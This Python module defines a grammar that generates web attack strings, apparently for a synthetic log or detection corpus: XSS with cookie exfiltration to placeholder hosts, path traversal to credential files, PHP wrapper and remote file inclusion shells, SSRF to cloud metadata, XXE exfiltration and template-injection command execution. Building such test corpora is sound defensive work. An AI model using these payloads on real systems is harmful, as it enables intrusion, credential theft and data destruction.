"""Attacks on what renders, parses or includes: scripts, XML, templates, server-side includes, files, addresses."""

from __future__ import annotations

import base64
from typing import Final

from weirlog.models.corpus.bare_forms import FILE_FORMS, MARKUP_FORMS
from weirlog.models.corpus.grammar import Chance, Grammar, Rules
from weirlog.models.corpus.values import TERMINALS


def _script_base64(chance: Chance) -> str:
    return base64.b64encode(f"<script>alert({chance.number(1, 99)})</script>".encode()).decode()


def _from_char_code(chance: Chance) -> str:
    return "String.fromCharCode(" + ",".join(str(chance.number(40, 122)) for _ in range(chance.number(3, 25))) + ")"


def _climb(chance: Chance) -> str:
    """Return steps upwards, in one of the spellings that servers undo or that filters miss."""
    step = chance.pick(
        ("../", "../", "../", "../", "../", "..\\", "..\\", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%5c", "....//", "....\\\\", "..%252f", "%252e%252e%252f",
         "..;/", "..%c0%af", "%c0%ae%c0%ae/", ".././", "..//", "..\\/", "..%u2215", "\\..", "/..", "%%32%65%%32%65/", "..%01/", ".../", "..%00/", "/./..", "..%255c", ".%2e/")
    )  # fmt: skip
    return step * chance.pick((2, 2, 2, 3, 3, 4, 5, 6, 7, 8, 10, 12))


def _dotted_integer(chance: Chance) -> str:
    """Return a loopback or metadata address in a spelling that a naive filter lets through."""
    return chance.pick(
        ("127.0.0.1", "169.254.169.254", "2130706433", "0x7f000001", "017700000001", "127.1", "[::1]", "[::ffff:127.0.0.1]", "0.0.0.0", "0177.0.0.1",
         "2852039166", "[fd00:ec2::254]", "127.0.0.1.nip.io", "localtest.me", "metadata.google.internal", "100.100.100.200", "0x7f.1", "[::ffff:a9fe:a9fe]",
         "0xa9fea9fe", "127.127.127.127", "spoofed.burpcollaborator.net", "instance-data", "192.0.0.192")
    )  # fmt: skip


_XSS: Final[Rules] = {
    "xss": ["«bare_markup»", "«bare_markup»", "«bare_markup»", "«tag»", "«tag»", "«tag»", "«breakout»«tag»", "«breakout»«tag»", "«attribute»", "«scheme»", "«scheme»", "javascript:«run»", "\"><script>«run»</script>", "<script>«run»</script>", "<img src=x «event»=«run»>", "<svg «event»=«run»>", "«inside»", "«before»«tag»", "«breakout»«attribute»", "«css»"],
    "before": ["«word»", "«sentence»", "«n»", "«rnd»"],
    "breakout": ["\">", "'>", "\"/>", "'/>", "</title>", "</textarea>", "</script>", "-->", "\"><", "</style>", ">", "\">\">", "';", "\";", "</noscript>", "<!--", "]]>", "\" >", "</p>", "«word»\">", "«n»'>"],
    "run": ["alert(«d»)", "alert(1)", "alert('«word»')", "alert(document.cookie)", "alert(document.domain)", "confirm(«d»)", "prompt(«n»)", "alert`«d»`", "print()", "document.location='http://«host»/?c='+document.cookie", "eval(«codes»)", "eval(atob('«b64»'))",
            "fetch('//«host»/'+document.cookie)", "new Image().src='http://«host»/'+document.cookie", "window['al'+'ert'](«d»)", "top['ale'+'rt'](1)", "self[`al`+`ert`](«d»)", "(alert)(«d»)", "al\\u0065rt(«d»)", "alert(/«word»/.source)", "alert(«codes»)",
            "Function('ale'+'rt(«d»)')()", "[].constructor.constructor('alert(«d»)')()", "window.onerror=alert;throw «d»", "import('//«host»/x.js')", "document.write('<img src=//«host»/'+document.cookie+'>')", "setTimeout('alert(«d»)',«d»)",
            "a=alert,a(«d»)", "javascript:alert(«d»)", "location=name", "$.getScript('//«host»')", "throw/**/onerror=alert,«d»", "document.body.innerHTML='«word»'", "location.href='//«host»/'+localStorage.token", "alert(String(«d»))", "alert&lpar;«d»&rpar;", "alert&#40;«d»&#41;",
            "console.log(document.cookie)", "navigator.sendBeacon('//«host»',document.cookie)", "document['cookie']", "globalThis['\\x61lert'](«d»)", "msgbox(«d»)", "parent.alert(«d»)", "alert.call(null,«d»)", "Reflect.apply(alert,null,[«d»])"],
    "codes": _from_char_code,
    "b64": _script_base64,
    "event": ["onerror", "onerror", "onload", "onload", "onmouseover", "onfocus", "onclick", "ontoggle", "onstart", "onpageshow", "onanimationstart", "onblur", "onbegin", "onscroll", "onpointerenter", "onmouseenter", "onresize", "onhashchange", "onwheel", "onkeyup", "oncut",
              "onanimationend", "onbeforetoggle", "onfinish", "onloadstart", "onmousemove", "ontransitionend", "oninput", "onpropertychange"],
    "eq": ["=", "=", "=", " = ", "=\"", "='", "\n=", "=`", "%0a="],
    "close": [">", ">", ">", "/>", " >", "//", "", "<!--", " x", ">«word»"],
    "sp": [" ", " ", " ", "/", "\n", "\t", "/**/", "%0d", " «word» ", "//", "%0c"],
    "element": ["img", "img", "svg", "svg", "body", "iframe", "input", "video", "audio", "details", "marquee", "object", "select", "textarea", "isindex", "x", "a", "button", "form", "math", "style", "div", "bgsound", "keygen", "frameset", "custom-«word»", "«invented»", "image", "template", "p"],
    "src": ["src=x", "src=1", "src=\"x\"", "src", "src='«word»'", "src=http://«host»/a", "autofocus", "open", "href=x", "src=x:x", "style=display:block", "tabindex=1", "id=x", "contenteditable", "src=#", "controls", "type=image"],
    "tag": ["<script>«run»</script>", "<script>«run»</script>", "<script>«run»", "<script src=«q»//«host»/«word».js«q»></script>", "<script src=http://«host»/«word».js>", "<script/src=data:,«run»></script>", "<script «word»>«run»</script>", "<script\n>«run»</script>", "<script/«word»>«run»</script>",
            "<scr<script>ipt>«run»</scr</script>ipt>", "<«element»«sp»«src»«sp»«event»«eq»«run»«close»", "<«element»«sp»«src»«sp»«event»«eq»«run»«close»", "<«element»«sp»«event»«eq»«run»«close»", "<«element»«sp»«event»«eq»«run»«close»", "<«element»«sp»«event»«eq»«run»«close»", "<svg><script>«run»</script></svg>",
            "<iframe src=«q»javascript:«run»«q»></iframe>", "<a href=«q»javascript:«run»«q»>«word»</a>", "<object data=«q»javascript:«run»«q»>", "<embed src=«q»data:text/html;base64,«b64»«q»>", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:«run»\">", "<iframe srcdoc=\"&lt;script&gt;«run»&lt;/script&gt;\">",
            "<svg><animate onbegin=«run» attributeName=x dur=1s>", "<svg><a xlink:href=\"javascript:«run»\"><text x=20 y=20>«word»</text></a>", "<math><mi xlink:href=\"data:x,<script>«run»</script>\">", "<form action=javascript:«run»><input type=submit>", "<button formaction=javascript:«run»>«word»", "<base href=\"javascript:/a/-«run»//\">",
            "<link rel=stylesheet href=javascript:«run»>", "<img src=\"javascript:«run»\">", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(«d»)>", "<script>/*«word»*/«run»/**/</script>", "<!--<img src=\"--><img src=x onerror=«run»//\">", "<noscript><p title=\"</noscript><img src=x onerror=«run»>\">", "<script>\\u0061lert(«d»)</script>",
            "<details open ontoggle=«run»>", "<video><source onerror=\"«run»\">", "<xss id=x onfocus=«run» tabindex=1>#x", "<img/src/onerror=«run»>", "<img \"\"\"><script>«run»</script>\">", "<script>eval('«word»');</script>", "<body background=javascript:«run»>", "<h1 onclick=«run»>«word»</h1>", "<iframe/onload='«run»'></iframe>",
            "<table background=\"javascript:«run»\">", "<?xml version=\"1.0\"?><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">«run»</x:script>", "<script type=text/vbscript>«run»</script>", "<img src=# onerror\\x3D\"«run»\">", "<iframe src=//«host»></iframe><script>«run»</script>"],
    "q": ["", "\"", "'", "`"],
    "attribute": ["\" «event»=\"«run»", "' «event»='«run»", "\" «event»=«run» \"", "' «event»=«run» x='", "\" autofocus onfocus=\"«run»", "«event»=«run»", "\"«event»=«run»//", "«word»\" «event»=«run» «word»=\"", "\" style=\"animation-name:x\" onanimationstart=\"«run»", "\"/«event»=«run»/x=\"", "x\" onclick=«run» a=\"", "`«event»=«run»"],
    "scheme": ["javascript:«run»", "javascript:«run»", "javascript://%0a«run»", "jaVasCript:«run»//", "java\tscript:«run»", "data:text/html,<script>«run»</script>", "data:text/html;base64,«b64»", "vbscript:«run»", "javascript:/*--></title></style></textarea></script><svg/onload='«run»'>", "java%0ascript:«run»", "&#106;avascript:«run»", "javascript&colon;«run»", " javascript:eval('«run»')", "feed:javascript:«run»", "javascript:void(«run»)"],
    "inside": ["';«run»;//", "\";«run»;//", "'-«run»-'", "\"-«run»-\"", "\\';«run»//", "'+«run»+'", "${«run»}", "'};«run»;{'", "</script><script>«run»</script>", "'|«run»|'", "*/«run»/*", "\\u0027;«run»//", "{{constructor.constructor('«run»')()}}", "{{$on.constructor('«run»')()}}", ";«run»;", "'),«run»//", "\"}]};«run»;//", "«word»');«run»;//", "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };«run»//');}}"],
    "css": ["<style>@import'//«host»';</style>", "<div style=\"width:expression(«run»)\">", "\" style=\"background:url(javascript:«run»)", "<style>body{background:url(\"javascript:«run»\")}</style>", "<div style=\"behavior:url(//«host»)\">", "<x style=\"xss:expr/*«word»*/ession(«run»)\">", "<style>*{-moz-binding:url(//«host»/x#xss)}</style>"],
}  # fmt: skip

_FILES: Final[Rules] = {
    "climb": _climb,
    "hop": ["..;/", "..;/", "../;/", ".;/..;/", "..;x=y/", "%2e%2e;/", "..%3b/"],
    "console": ["manager/html", "admin/", "actuator/env", "WEB-INF/web.xml", "console/", "host-manager/html", "jmx", "admin/users", "h2-console/", "env"],
    "target": ["etc/passwd", "etc/passwd", "etc/passwd", "etc/shadow", "etc/hosts", "etc/group", "proc/self/environ", "proc/version", "proc/self/cmdline", "windows/win.ini", "windows/system32/drivers/etc/hosts", "boot.ini", "winnt/win.ini", "WEB-INF/web.xml", "var/log/apache2/access.log",
               "var/log/auth.log", "root/.ssh/id_rsa", "home/«word»/.bash_history", "etc/apache2/apache2.conf", ".env", "config.php", "wp-config.php", "app/config/parameters.yml", "windows\\system.ini", "inetpub/wwwroot/web.config", "windows\\system32\\cmd.exe", "root/.bashrc",
               "etc/ssh/sshd_config", "etc/issue", "usr/local/apache/conf/httpd.conf", "«word»/«word».«word»", ".git/config", "xampp/apache/logs/access.log", "etc/my.cnf", "sites/default/settings.php", "application.properties", ".aws/credentials", "windows/repair/sam", "secret.txt", "proc/self/fd/«small»",
               "META-INF/MANIFEST.MF", "var/run/secrets/kubernetes.io/serviceaccount/token", "etc/resolv.conf", "database.yml", "global.asa", "usr/bin/id", "bin/sh", "apache/logs/error.log", "etc/mysql/my.cnf", "var/www/html/index.php", "autoexec.bat", "localstart.asp", ".htpasswd", "etc/motd"],
    "tail": ["", "", "", "", "", "%00", "%00.jpg", "%00.html", "?", "\u0000", "\u0000.png", "%2500.jpg", "/.", "::$data", ";index.html", "%23", "#", "%20", "/"],
    "front": ["", "", "", "", "/", "«word»/", "/var/www/images/", "file:///", "«noun»/«noun»/", "./", "C:\\", "/static/", "images/", "\\", "/opt/«word»/", "public/plugins/«word»/", "«file»/", "en/", "download.php?f="],
    "traversal": [*["«bare_path»"] * 8, "«hop»«hop»«console»", "/«noun»/«hop»«console»", "/«hop»«hop»«target»", "«noun»/«hop»«hop»«hop»«target»", "/«noun»;/«hop»«console»", "«front»«climb»«target»«tail»", "«front»«climb»«target»«tail»", "«front»«climb»«target»«tail»", "«front»«climb»«target»«tail»", "/«system»«tail»", "«system_windows»«tail»", "file:///«system»", "«front»«climb»«climb»«target»", "/«system»", "«front»«climb»", "..\\..\\«climb»", "/cgi-bin/«climb»bin/sh", "/%2e%2e/%2e%2e/«target»", "/proc/self/root/«target»", "~root/«target»", "....//....//«target»"],
    "system": ["etc/passwd", "etc/shadow", "etc/passwd", "proc/self/environ", "etc/group", "root/.ssh/id_rsa", "proc/self/cmdline", "etc/master.passwd", "etc/security/passwd", "proc/1/maps", "var/log/apache2/access_log", "var/log/messages", "var/log/httpd/error_log", "usr/local/lib/php.ini", "private/etc/httpd/httpd.conf", "var/www/«word»/.htaccess", "usr/local/apache/conf/php.ini", "var/spool/cron/crontabs/root", "proc/self/status", "etc/php.ini", "opt/lampp/logs/access_log", "WEB-INF/web.xml", "usr/local/etc/nginx/nginx.conf"],
    "system_windows": ["c:\\windows\\win.ini", "c:/boot.ini", "c:\\winnt\\system32\\cmd.exe", "C:/Windows/system32/drivers/etc/hosts", "\\\\«ip»\\c$\\«word»", "c:\\inetpub\\wwwroot\\web.config", "C:\\windows\\system32\\config\\sam", "c:/windows/system.ini", "\\\\localhost\\admin$", "%SYSTEMROOT%\\repair\\sam"],
    "evil": ["http://«host»/«shell»", "http://«ip»/«shell»", "https://«host»/«word»/«shell»", "ftp://«host»/«shell»", "hTTp://«host»/«shell»", "//«ip»/«shell»", "\\\\«ip»\\«word»\\«word».php", "http://«ip»:«nn»/«shell»", "ftp://«word»:«word»@«host»/«shell»", "http://cirt.net/rfiinc.txt?", "http://«host»/«word»/id.txt??"],
    "shell": ["shell.jsp", "cmd.jsp?", "shell.asp", "shell.php5", "evil.cfm", "x.php?«word»=", "shell.txt", "shell.txt?", "c99.txt?", "r57.txt??", "cmd.txt?", "«word».txt?", "evil.php", "«word».txt%00", "cmd.gif?&cmd=id", "id.txt???", "shell.php?cmd=ls", "backdoor.php", "rfi.txt?", "x.txt?cmd=whoami", "inc.txt??", "phpinfo.txt?", "test.txt?", "bot.txt??", "cmd.php?"],
    "rfi": [*["«bare_inclusion»"] * 5, "«evil»", "«evil»", "«evil»", "php://filter/convert.base64-encode/resource=«word».php", "php://filter/read=string.rot13/resource=index.php", "php://input", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==", "expect://id", "expect://ls", "phar://«word».phar/«word»", "zip://«word».jpg%23«word»",
            "data:text/plain,<?php system('id'); ?>", "php://filter/zlib.deflate/convert.base64-encode/resource=/etc/passwd", "compress.zlib://«word»", "glob:///var/www/*", "php://filter/convert.iconv.utf-8.utf-16/resource=config", "pHp://FilTer/convert.base64-encode/resource=../«word».php", "php://fd/3", "ogg://«word»", "data:;base64,PD9waHAgcGhwaW5mbygpOw=="],
    "inner": _dotted_integer,
    "reachable": ["127.0.0.1", "127.0.0.1", "localhost", "localhost", "192.168.«d».«small»", "10.«d».«d».«small»", "172.16.«d».«small»", "0.0.0.0", "[::1]", "169.254.169.254", "«inner»"],
    "room": ["admin", "admin/", "", "status", "server-status", "manager/html", "actuator/env", "internal", "api/v1/secrets", "_cluster/health", "v1/agent/self", "console", "debug", "private", "users", "config", "metrics", "backup", "secret", "solr/", "jenkins/script", "_cat/indices", "keys", "flushall"],
    "machine": ["consul", "vault", "elasticsearch", "jenkins", "redis", "etcd", "kibana", "grafana", "rabbitmq", "docker", "gitlab", "nexus", "admin.internal", "intranet", "db.internal", "backend", "kubernetes", "metadata"],
    "ssrf": ["http://«inner»/«room»?«word»=«word»", "https://«host»/redirect?to=http://«inner»/", "http://«reachable»/phpmyadmin/", "http://169.254.169.254/latest/user-data", "http://169.254.169.254/metadata/v1.json", "http://metadata/computeMetadata/v1/instance/service-accounts/default/token", "http://[::]:«port»/", "http://0:«port»/", "http://internal.«host»/«room»", "http://«noun»-service.«noun».svc.cluster.local/«room»", "http://«machine»:«port»/«room»", "http://«machine»:«port»/", "http://«machine»/«room»", "ftp://«reachable»/", "smb://«ip»/«word»", "file:///proc/self/environ", "file:///etc/shadow", "file:///etc/hosts", "file:///var/www/html/config.php", "gopher://«reachable»:25/_HELO%20«word»", "gopher://«reachable»:«port»/_«word»", "dict://«reachable»:11211/stat", "ldap://«reachable»/dc=«word»", "http://«reachable»:«port»/«room»#.«host»", "http://«host»:«port»@«reachable»/", "http://«reachable»:«port»/«room»", "http://«reachable»:«port»/«room»", "http://«reachable»:«port»/«room»", "http://«reachable»/«room»", "http://«reachable»/«room»", "https://«reachable»/«room»", "http://«reachable»:8080/«room»", "http://«reachable»:8000/«room»", "//«reachable»/«room»", "http://user:pass@«reachable»/«room»", "http://«reachable»:«port»", "HTTP://«reachable»/«room»", "http://«inner»/latest/meta-data/", "http://«inner»/latest/meta-data/iam/security-credentials/", "http://169.254.169.254/latest/«word»", "http://metadata.google.internal/computeMetadata/v1/", "http://«inner»:«port»/", "http://«inner»:«port»/«noun»", "http://127.0.0.1:«port»/", "http://localhost:«port»/", "gopher://«inner»:«port»/_%0d%0aINFO",
             "gopher://127.0.0.1:6379/_flushall", "dict://«inner»:«port»/info", "file:///etc/passwd", "file:///c:/windows/win.ini", "file://«inner»/«target»", "ldap://«inner»:389/%0astats", "sftp://«host»:«port»/", "tftp://«host»:69/«word»", "http://localhost/server-status", "http://«word»@«inner»/", "http://«host»#@«inner»/", "http://«host»@«inner»/«noun»",
             "jar:http://«host»/«word».jar!/", "http://169.254.169.254/metadata/instance?api-version=2021-02-01", "http://169.254.170.2/v2/credentials/", "netdoc:///etc/passwd", "http://kubernetes.default.svc/api/v1/secrets", "http://«inner»/admin/delete?user=«word»", "http://«inner»:2375/containers/json", "unix:///var/run/docker.sock",
             "http://«inner»/openstack/latest/meta_data.json", "url=http://«inner»/", "http://①②⑦.⓪.⓪.①/", "http://«inner»%23.«host»/", "http:\\\\«inner»\\", "https://«inner»:«port»@«host»/"],
    "port": ["22", "3306", "6379", "9200", "11211", "5432", "2375", "27017", "8500", "10250", "25", "2379", "9000", "5984", "8443", "445", "873", "4646", "8086"],
}  # fmt: skip

_DOCUMENTS: Final[Rules] = {
    "entity": ["xxe", "x", "test", "file", "«word»", "rnd", "a0", "foo"],
    "source": ["file:///etc/passwd", "file:///c:/boot.ini", "http://«host»/«word».dtd", "php://filter/read=convert.base64-encode/resource=«word».php", "http://169.254.169.254/latest/meta-data/", "expect://id", "file:///«target»", "http://«host»/", "ftp://«host»/%file;", "jar:file:///«word».zip!/a", "http://«ip»:«nn»/", "netdoc:/etc/passwd", "/dev/random"],
    "xml": ["<?xml version=\"1.0\"?>", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>", "<?xml version='1.0' standalone='yes'?>", "", "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n"],
    "xxe": ["«xml»<!DOCTYPE «noun» [<!ENTITY «entity» SYSTEM \"«source»\">]><«noun»>&«entity»;</«noun»>", "«xml»<!DOCTYPE «noun» [<!ELEMENT «noun» ANY><!ENTITY «entity» SYSTEM '«source»'>]><«noun»>&«entity»;</«noun»>",
            "«xml»<!DOCTYPE «noun» [\n<!ENTITY % «entity» SYSTEM \"«source»\">\n%«entity»;\n]>", "«xml»<!DOCTYPE «noun» SYSTEM \"«source»\"><«noun»/>", "«xml»<!DOCTYPE «noun» PUBLIC \"-//A//B//EN\" \"«source»\">", "<!ENTITY % «entity» SYSTEM \"«source»\">", "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;\">]><lolz>&lol2;</lolz>",
            "<«noun» xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"«source»\"/></«noun»>", "<svg xmlns=\"http://www.w3.org/2000/svg\"><image xlink:href=\"expect://ls\"></image></svg>", "<!ENTITY % all \"<!ENTITY send SYSTEM 'http://«host»/?%file;'>\">%all;", "<xsl:value-of select=\"document('«source»')\"/>",
            "<!DOCTYPE «noun» [<!ENTITY «entity» PUBLIC \"«word»\" \"«source»\">]><a>&«entity»;</a>", "<!ENTITY «entity» SYSTEM '«source»'>]>", "<soap:Body><«noun»><![CDATA[<!DOCTYPE doc [<!ENTITY % dtd SYSTEM \"«source»\"> %dtd;]><xxx/>]]></«noun»></soap:Body>"],
    "math": ["«d»*«d»", "7*7", "«nn»*«nn»", "«d»+«d»", "'7'*7", "191*7", "«n»-1"],
    "reach": ["config", "self", "request.application.__globals__", "''.__class__.__mro__[1].__subclasses__()", "''.__class__.__base__.__subclasses__()[«n»]", "config.items()", "self.__init__.__globals__.__builtins__", "cycler.__init__.__globals__.os.popen('«cmd»').read()",
              "lipsum.__globals__['os'].popen('«cmd»').read()", "request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')", "_self.env.registerUndefinedFilterCallback('exec')", "_self.env.getFilter('«cmd»')", "['«cmd»']|filter('system')", "[0]|reduce('system','«cmd»')", "app.request.server.all|join(',')",
              "'a'.getClass().forName('java.lang.Runtime').getRuntime().exec('«cmd»')", "url_for.__globals__", "get_flashed_messages.__globals__", "range.constructor('return global.process.mainModule.require(\"child_process\").execSync(\"«cmd»\")')()", "settings.SECRET_KEY", "dump(app)", "().__class__.__bases__[0]", "namespace.__init__.__globals__.os.environ", "joiner.__init__.__globals__.os.popen('«cmd»')"],
    "cmd": ["id", "whoami", "ls", "cat /etc/passwd", "uname -a", "sleep «d»", "curl http://«host»", "ls -la", "calc", "ping -c «d» «host»"],
    "velocity": ["#set($x=«math»)$x", "#set($e=\"e\")$e.getClass()", "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"«cmd»\")", "$x.getClass().forName('java.lang.Runtime')", "#foreach($i in [1..«d»])$i#end", "#evaluate(\"«cmd»\")", "#include(\"/etc/passwd\")", "#parse(\"«word».vm\")", "$velocityCount", "$request.getClass()"],
    "ssti": ["«velocity»", "«velocity»", "«velocity»", "«velocity»", "{{request}}", "{{ self.__dict__ }}", "<%= 7 * 7 %>", "${7*7}", "{{constructor.constructor('return 1')()}}", "{{«math»}}", "{{ «math» }}", "${«math»}", "#{«math»}", "<%= «math» %>", "{{«reach»}}", "{{«reach»}}", "{{ «reach» }}", "${{«math»}}", "{%«math»%}", "@(«math»)", "*{«math»}", "[[${«math»}]]", "${T(java.lang.Runtime).getRuntime().exec('«cmd»')}", "${T(java.lang.System).getenv()}", "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('«cmd»').getInputStream())}",
             "<#assign ex=\"freemarker.template.utility.Execute\"?new()> ${ ex(\"«cmd»\") }", "${\"freemarker.template.utility.Execute\"?new()(\"«cmd»\")}", "{php}echo `«cmd»`;{/php}", "{system('«cmd»')}", "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('«cmd»')", "<%= system('«cmd»') %>", "<%= `«cmd»` %>", "<%= File.open('/etc/passwd').read %>",
             "{% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen('«cmd»').read()}}{%endif%}{%endfor%}", "#{ %x|«cmd»| }", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{lookup string.sub \"constructor\"}}{{/with}}{{/with}}", "{%import os%}{{os.popen('«cmd»').read()}}", "${__import__('os').popen('«cmd»').read()}", "${product.getClass().getProtectionDomain()}", "{{'«word»'|upper|map('system')}}", "#{T(java.lang.Runtime).getRuntime().exec('«cmd»')}", "${self.module.cache.util.os.system('«cmd»')}", "{$smarty.version}", "{{= global.process.mainModule.require('child_process').execSync('«cmd»') }}", "__${«math»}__::.x", "~{«math»}", "{{«math»}}[[«math»]]", "${{<%[%'\"}}%\\.", "{{this}}{{self}}", "<th:t=\"${«math»}#foreach", "{{dump()}}", "{% debug %}"],
    "ssi": ["<!--#exec cmd=\"«cmd»\"-->", "<!--#exec cmd=\"«cmd»\" -->", "<!--#include virtual=\"/etc/passwd\"-->", "<!--#include file=\"«climb»«target»\"-->", "<!--#echo var=\"DOCUMENT_ROOT\"-->", "<!--#printenv-->", "<esi:include src=\"http://«host»/\"/>", "<!--#exec cgi=\"/cgi-bin/«word».cgi\"-->", "<!--#config errmsg=\"«word»\"-->", "<!--#set var=\"«word»\" value=\"«word»\"-->", "<!--#exec%20cmd='«cmd»'-->", "\"><!--#exec cmd=\"«cmd»\"-->", "<!--#flastmod file=\"«word».html\"-->", "<esi:include src=\"http://«inner»/\" stylesheet=\"http://«host»/x.xsl\"/>"],
}  # fmt: skip

MARKUP_GRAMMAR: Final = Grammar(TERMINALS, FILE_FORMS, MARKUP_FORMS, _FILES, _DOCUMENTS, _XSS)
